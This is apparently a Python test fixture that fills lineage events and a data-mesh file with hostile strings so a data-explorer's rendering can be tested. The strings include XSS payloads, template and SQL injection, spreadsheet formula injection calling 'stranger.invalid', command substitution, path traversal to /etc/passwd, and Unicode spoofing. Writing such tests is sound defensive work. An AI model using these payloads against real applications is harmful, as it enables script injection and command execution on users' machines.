"""A mesh in which every name, description, SQL text, tag, owner and message means harm to a page that shows it or to a file it saves."""

from __future__ import annotations

from typing import Any

from tests.explorer.server import Server

NAMESPACE = "hostile"
OWNED = "owned-by-a-stranger"  # what a script of a name would leave behind: a property of `window`, the title, an element
SCRIPT = f'window["{OWNED}"]=1;document.title="{OWNED}";alert("{OWNED}")'
STRANGER = "http://stranger.invalid"

TEXTS = (
    f"\"><img src=x onerror='{SCRIPT}'>",
    f"<script>{SCRIPT}</script></title></textarea></style>",
    f"<svg/onload='{SCRIPT}'><foreignObject><iframe srcdoc=\"<script>{SCRIPT}</script>\">",
    f"javascript:{SCRIPT}",
    f"<link rel=stylesheet href={STRANGER}/a.css><img src={STRANGER}/a.png><a href={STRANGER} id={OWNED}>",
    f"![a]({STRANGER}/b.png) [b](javascript:{SCRIPT}) `c` **d** <details open ontoggle='{SCRIPT}'>",
    "{{constructor.constructor('return 7*6')()}} ${7*6} #{7*6} <%= 7*6 %>",
    "invoice\u202egnp.exe\u202c \u2066txt\u2069 \u200fabc\u200e",
    "or\u200bders\u200d\ufeff\u2060\u00ad\U000e0041",
    f'=HYPERLINK("{STRANGER}?"&A1,"customers")',
    f"+cmd|' /C calc'!A0;\"{STRANGER}\"",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    'A["quoted"] --> B; click A "javascript:alert(1)"; %%{init: {}}%%; end; subgraph x',
    "]]> --> */ ' OR 1=1 -- \\ \" ; `id` $(id) & | %00 %0a %2e%2e/ ../../etc/passwd?a=b#c",
    "line one\nline two\r\nline three\ttab \u2028 \u2029",
    "__proto__",
    "constructor",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 e\u0301 \u0e01\u0e33" + "\u0300" * 60,
    "x" * 10_000,
    "wide " * 2_000,
)
NAMES = tuple(text[:4_000] for text in TEXTS)  # longer names are refused
LABELS = tuple(text[:200] for text in TEXTS)  # and shorter ones in a mesh file


def name_column(number: int) -> str:
    return f"{number}{NAMES[number]}"


def build_dataset(number: int) -> dict[str, Any]:
    """A dataset that is hostile in all its facets; its columns have every one of the texts as a name."""
    text, name = TEXTS[number], NAMES[number]
    return {
        "namespace": NAMESPACE,
        "name": name,
        "facets": {
            "schema": {
                "fields": [{"name": name_column(column), "type": other, "description": other} for column, other in enumerate(TEXTS)]
            },
            "documentation": {"description": text},
            "ownership": {"owners": [{"name": name, "type": text}]},
            "tags": {"tags": [{"key": name, "value": text}, {"key": name, "value": text, "field": name_column(number)}]},
            "datasetType": {"datasetType": name, "subType": name},
            "storage": {"storageLayer": name, "fileFormat": name},
            "dataSource": {"name": name, "uri": name},
            "dataQualityAssertions": {
                "assertions": [
                    {
                        "assertion": name,
                        "success": False,
                        "column": name_column(number),
                        "expected": name,
                        "actual": name,
                        "description": text,
                    }
                ]
            },
        },
    }


def build_event(number: int) -> dict[str, Any]:
    """A run that reads one hostile dataset and writes the next: together a chain through all of them, but where a run fails."""
    text, name, following = TEXTS[number], NAMES[number], (number + 1) % len(TEXTS)
    source, target = build_dataset(number), build_dataset(following)
    target["facets"]["columnLineage"] = {
        "fields": {
            name_column(column): {
                "inputFields": [
                    {
                        "namespace": NAMESPACE,
                        "name": name,
                        "field": name_column(column),
                        "transformations": [{"type": "DIRECT", "subtype": name, "description": text, "masking": column % 2 == 0}],
                    }
                ]
            }
            for column in range(len(TEXTS))
        }
    }
    return {
        "eventType": "FAIL" if number % 7 == 6 else "COMPLETE",
        "eventTime": f"2026-03-{number + 1:02d}T12:00:00Z",
        "producer": text,
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent",
        "run": {
            "runId": f"00000000-0000-4000-8000-{number:012x}",
            "facets": {"errorMessage": {"message": text, "programmingLanguage": name, "stackTrace": text}},
        },
        "job": {
            "namespace": NAMESPACE,
            "name": name,
            "facets": {
                "sql": {"query": text, "dialect": text},
                "documentation": {"description": text},
                "ownership": {"owners": [{"name": name, "type": text}]},
                "jobType": {"processingType": name, "integration": name, "jobType": name},
                "sourceCodeLocation": {"type": name, "url": name},
                "tags": {"tags": [{"key": name, "value": text}]},
            },
        },
        "inputs": [source],
        "outputs": [target],
    }


def build_mesh() -> dict[str, Any]:
    """What people state: hostile owners, domains, products, contracts and consumers."""
    return {
        "version": 1,
        "source": "hostile-people",
        "teams": [{"name": text, "title": text, "description": text, "email": text, "slack": text} for text in LABELS],
        "domains": [{"name": text, "title": text, "description": text, "owner": text} for text in LABELS],
        "products": [
            {
                "name": text,
                "title": text,
                "domain": text,
                "description": text,
                "owner": text,
                "version": text,
                "tags": [text],
                "output_ports": [{"dataset": {"namespace": NAMESPACE, "name": text}, "type": text, "endpoint": text, "format": text}],
            }
            for text in LABELS
        ],
        "contracts": [
            {"id": text, "dataset": {"namespace": NAMESPACE, "name": text}, "version": text, "status": text, "owner": text}
            for text in LABELS
        ],
        "consumers": [
            {
                "name": text,
                "title": text,
                "type": "dashboard",
                "owner": text,
                "description": text,
                "consumes": [{"dataset": {"namespace": NAMESPACE, "name": text}, "purpose": text}],
            }
            for text in LABELS
        ],
    }


def fill_server(server: Server) -> None:
    """Everything above, over HTTP."""
    for number in range(len(TEXTS)):
        server.post("/api/v1/lineage", build_event(number))
    server.post("/api/v1/mesh", build_mesh(), method="PUT")
